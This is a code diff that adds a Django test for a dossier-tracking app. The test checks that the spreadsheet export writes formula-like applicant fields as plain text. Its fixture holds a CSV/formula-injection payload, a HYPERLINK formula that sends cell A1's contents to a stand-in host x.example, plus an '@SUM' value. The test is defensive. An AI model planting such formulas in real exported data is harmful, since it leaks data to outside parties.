@@ -130,6 +130,32 @@ class ViewTests(BaseTestCase):
         self.login(self.tuphap)
         self.assertEqual(self.client.get("/ho-so/thong-ke/").status_code, 403)
 
+    def test_the_register_export_writes_a_formula_like_applicant_as_text(self):
+        from cchc.dossiers.services import Applicant
+
+        hostile = Applicant(
+            name='=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+            address="@SUM(1+1)",
+            phone="0912345678",
+            id_number="034095001234",
+        )
+        d = receive(self.motcua, self.proc, at(2025, 6, 2), applicant=hostile)
+        elsewhere = receive(self.other, make_procedure(self.other_commune), at(2025, 6, 2))
+        self.login(self.chutich)
+        r = self.client.get("/ho-so/so-theo-doi/?date_from=01/06/2025&date_to=30/06/2025&xuat=xlsx")
+        ws = load_workbook(io.BytesIO(r.content)).active
+        cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+        codes = [c.value for c in ws["B"]]
+        self.assertIn(d.code, codes)
+        self.assertNotIn(elsewhere.code, codes)
+        name = next(c for v, c in cells.items() if v.startswith("=HYPERLINK"))
+        self.assertEqual(name.value, '=HYPERLINK("http://x.example/?"&A1,"Bấm")')
+        self.assertEqual((name.data_type, name.quotePrefix), ("s", True))
+        address = next(c for v, c in cells.items() if "@SUM(1+1)" in v)
+        self.assertEqual(address.data_type, "s")
+        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+            self.assertNotIn("<f>", z.read("xl/worksheets/sheet1.xml").decode())
+
     def test_province_viewers_pick_a_commune_or_all_on_the_statistics_page(self):
         receive(self.motcua, self.proc, at(2025, 6, 2))
         other_proc = make_procedure(self.other_commune)
